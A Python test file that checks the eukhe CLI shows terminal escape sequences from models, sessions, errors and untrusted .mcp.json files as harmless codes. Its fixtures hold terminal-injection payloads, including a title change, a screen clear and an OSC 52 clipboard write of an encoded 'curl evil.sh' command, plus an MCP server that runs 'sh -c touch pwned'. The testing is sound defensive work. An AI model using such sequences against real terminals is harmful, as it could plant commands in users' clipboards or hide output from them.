"""The attack: a model (or a tool, an imported session, a cloned project's files) writes
escape sequences that a terminal would act on (set its title, fill the clipboard through
OSC 52, clear the screen, a C1 CSI), and eukhe prints that text. Wherever it goes (a
terminal, a pipe, a log file: a pipe's bytes reach a terminal too, through `cat`, `less
-R` or `tail -f`), each such character arrives as its code (`\\x1b`), never as itself;
only eukhe's own styling is raw, and only on a terminal."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from eukhe.ai.faux import FauxServer, parse
from eukhe.client import protocol
from eukhe.terminal import json_text, neutralized
from tests.cli.terminal import acting, controls, on_pty
from tests.cli.test_run import eukhe
from tests.proc import DEADLINE, owner_log, sessions, start, until

ATTACK = "title \x1b]0;pwned\x07 clip \x1b]52;c;Y3VybCBldmlsLnNo\x07 clear \x1b[2J c1 \x9b31m del \x7f end"
SHOWN = (
    "title \\x1b]0;pwned\\x07 clip \\x1b]52;c;Y3VybCBldmlsLnNo\\x07 clear \\x1b[2J c1 \\x9b31m del \\x7f end"
)
"""ATTACK as a terminal must show it."""


def test_every_control_a_terminal_acts_on_is_shown_as_its_code_and_only_those() -> None:
    controls = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]
    assert [neutralized(c) for c in controls] == [f"\\x{ord(c):02x}" for c in controls]
    kept = "line\n\ttab é \u00a0 ✂ \\x1b"  # newline, tab, printable text and a shown code stay
    assert neutralized(kept) == kept


def test_json_for_a_terminal_escapes_del_and_c1_and_stays_the_same_json() -> None:
    """json.dumps escapes C0, but with ensure_ascii off leaves DEL and C1 (an 8-bit CSI)
    raw: `--events` and the chat's JSON go through json_text."""
    value = {"text": "a\x7fb\x9b31mc\x1b]0;t\x07 é"}
    raw = json.dumps(value, ensure_ascii=False)
    assert "\x9b" in raw and "\x7f" in raw
    out = json_text(raw)
    assert not any(0x7F <= ord(c) <= 0x9F or ord(c) < 0x20 for c in out)
    assert json.loads(out) == value


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project where session s1 ran once, its prompt (as if pasted or imported) and its
    answer the attack, its output piped (not a terminal); the chat logged both."""
    cwd = tmp_path_factory.mktemp("ran")
    with FauxServer(parse([ATTACK])) as server:
        done = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "--session", "s1", ATTACK, cwd=cwd)
    assert done.returncode == 0, done.stderr
    return cwd


def test_run_on_a_terminal_shows_the_models_escape_sequences_as_codes(tmp_path: Path) -> None:
    script = [{"text": ATTACK, "chunks": 9}]  # pieces cut through the sequences
    with FauxServer(parse(script)) as server:
        shown = on_pty("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
    assert shown.code == 0, shown.terminal
    assert acting(shown.terminal) == [], shown.terminal
    assert SHOWN + "\n" in shown.terminal


def test_a_failed_runs_cause_on_a_terminal_shows_escape_sequences_as_codes(tmp_path: Path) -> None:
    script = [{"error": {"status": 401, "body": {"error": {"message": ATTACK}}}}]
    with FauxServer(parse(script)) as server:
        shown = on_pty("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
    assert shown.code == 1, shown.terminal
    assert acting(shown.terminal) == [], shown.terminal
    assert "failed (model_error): " in shown.terminal  # the body's C0 come JSON-escaped, C1 and DEL not
    assert "c1 \\x9b31m del \\x7f end" in shown.terminal


def test_run_into_a_pipe_shows_the_models_escape_sequences_as_codes(tmp_path: Path) -> None:
    with FauxServer(parse([{"text": ATTACK, "chunks": 9}])) as server:
        shown = on_pty(
            "run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path, stdout_piped=True
        )
    assert shown.code == 0, shown.terminal
    assert shown.piped == SHOWN + "\n"
    assert acting(shown.terminal) == [], shown.terminal  # stderr is still a terminal


def test_session_show_on_a_terminal_shows_escape_sequences_as_codes(ran: Path) -> None:
    shown = on_pty("session", "show", "s1", cwd=ran)
    assert shown.code == 0, shown.terminal
    assert acting(shown.terminal) == [], shown.terminal
    assert f"user: {SHOWN}\nassistant: {SHOWN}\n" in shown.terminal


def test_session_show_into_a_pipe_shows_escape_sequences_as_codes(ran: Path) -> None:
    shown = on_pty("session", "show", "s1", cwd=ran, stdout_piped=True)
    assert shown.code == 0, shown.terminal
    assert acting(shown.piped or "") == [], shown.piped
    assert f"user: {SHOWN}\nassistant: {SHOWN}\n" in (shown.piped or "")


def test_sessions_on_a_terminal_shows_a_prompts_escape_sequences_as_codes(ran: Path) -> None:
    listed = on_pty("sessions", cwd=ran)
    assert listed.code == 0, listed.terminal
    assert acting(listed.terminal) == [], listed.terminal
    assert "title \\x1b]0;pwned\\x07 clip" in listed.terminal


def test_chat_view_on_a_terminal_shows_escape_sequences_as_codes(ran: Path) -> None:
    view = on_pty("chat", "view", cwd=ran)
    assert view.code == 0, view.terminal
    assert acting(view.terminal) == [], view.terminal
    assert f"0+1|user: {SHOWN}\n1+1|talk: {SHOWN}\n" in view.terminal


def test_chat_zoom_on_a_terminal_shows_escape_sequences_as_codes(ran: Path) -> None:
    zoom = on_pty("chat", "zoom", "1", "1", cwd=ran)
    assert zoom.code == 0, zoom.terminal
    assert acting(zoom.terminal) == [], zoom.terminal
    assert zoom.terminal == f"talk: {SHOWN}\n"


def test_eukhe_run_on_a_terminal_shows_the_agents_status_line_and_into_a_pipe_nothing_more(
    tmp_path: Path,
) -> None:
    """While the model reads the prompt, `eukhe run` on a terminal says what it waits for and
    the exit, on stderr, over itself; it is gone before the answer. Into a pipe: no such line."""
    script = [{"text": "Hello there.", "chunks": 2, "delay": 1.5}, "Again."]
    with FauxServer(parse(script)) as server:
        shown = on_pty("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
        piped = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
    assert shown.code == 0 and piped.returncode == 0, shown.terminal
    drawn = "\r\x1b[2K\x1b[2mworking · run 1 · model streaming: quiet "
    assert drawn in shown.terminal and "· Ctrl-C aborts\x1b[0m" in shown.terminal, shown.terminal
    answer = shown.terminal.index("Hello")
    assert shown.terminal.rfind("\r\x1b[2K", 0, answer) > shown.terminal.rfind("\x1b[2mworking", 0, answer)
    assert "working ·" not in shown.terminal[answer:]  # erased before the answer, never drawn again
    assert "working ·" not in piped.stdout + piped.stderr and "\x1b" not in piped.stdout + piped.stderr


# ---------------------------------------------------------------- pipes and log files (issue 40, finding 7)

NAME = "evil\x1b]0;pwned\x07\x1b[2J\x9b31m\x9d0;t\x07"
"""A server's name in a cloned project's `.mcp.json`: an OSC title ended by BEL, a CSI that
clears the screen, and the 8-bit CSI and OSC."""
NAME_SHOWN = "evil\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x9d0;t\\x07"


def test_an_untrusted_mcp_json_whose_server_name_holds_escape_sequences_reaches_no_pipe_raw(
    tmp_path: Path,
) -> None:
    """The untrusted `.mcp.json` is held back with a notice that names its servers: into a
    pipe (a log file, `eukhe run ... | tee`) the name shows as codes, as on a terminal."""
    (tmp_path / ".mcp.json").write_text(
        json.dumps({"mcpServers": {NAME: {"command": "sh", "args": ["-c", "touch pwned"]}}})
    )
    with FauxServer(parse(["done"])) as server:
        ran = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
    listed = eukhe("mcp", "list", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    for done in (ran, listed):
        assert controls(done.stdout) == [] and controls(done.stderr) == [], (done.stdout, done.stderr)
        assert f"({NAME_SHOWN})" in done.stdout + done.stderr  # held back, and legible
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    "script",
    [
        [{"calls": [{"name": "read", "arguments": {"path": ATTACK}}]}, {"text": ATTACK, "chunks": 9}],
        [{"error": {"status": 401, "body": {"error": {"message": ATTACK}}}}],
    ],
    ids=["answer-and-tool-call", "error"],
)
def test_a_models_escape_sequences_reach_no_pipe_raw(tmp_path: Path, script: list[object]) -> None:
    """`eukhe run`, stdout and stderr both pipes: the model's tool call (its arguments, the
    tool's error that quotes them), its answer streamed in pieces cut through the
    sequences, or its provider's error, each shown as codes."""
    with FauxServer(parse(script)) as server:
        done = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "hi", cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    assert controls(done.stdout) == [] and controls(done.stderr) == [], (done.stdout, done.stderr)
    assert "c1 \\x9b31m del \\x7f end" in done.stdout + done.stderr


def test_run_json_escapes_every_control_and_keeps_the_answer_whole(tmp_path: Path) -> None:
    """`--json` is JSON: the answer comes back whole from it, and its text holds no control
    a terminal acts on (json.dumps left DEL raw)."""
    with FauxServer(parse([ATTACK])) as server:
        done = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "--json", "hi", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert controls(done.stdout) == [] and controls(done.stderr) == [], (done.stdout, done.stderr)
    assert json.loads(done.stdout.strip().splitlines()[-1])["answer"] == ATTACK


def test_the_owners_log_shows_a_recovered_runs_escape_sequences_as_codes(tmp_path: Path) -> None:
    """A terminal killed mid-run: its owner finishes the run and says in its log how it
    ended, with its cause, which the provider wrote. A person reading owner.log on a
    terminal (`tail -f`) gets the codes."""
    home = tmp_path / "home"
    script = [
        {"text": "never whole " * 50, "chunks": 50, "delay": 0.2},  # ten seconds: cut by the kill
        {"error": {"status": 401, "body": {"error": {"message": ATTACK}}}},
    ]
    with FauxServer(parse(script)) as server:
        args = ("run", "--model", "vllm/m", "--base-url", server.url, "--session", "s-cut", "cut")
        p = start(*args, cwd=tmp_path, home=home)
        until("the run's request", lambda: len(server.seen) >= 1)
        p.kill()
        p.wait(timeout=DEADLINE)

        def ended() -> bool:
            return any(s["id"] == "s-cut" and s["outcome"] == "failed" for s in sessions(tmp_path, home))

        until("the run's end", ended, about=lambda: owner_log(home))
    log = protocol.log_path(home).read_text(encoding="utf-8")
    assert "a client died with s-cut/" in log
    assert controls(log) == [], log
    assert "c1 \\x9b31m del \\x7f end" in log  # its cause, legible
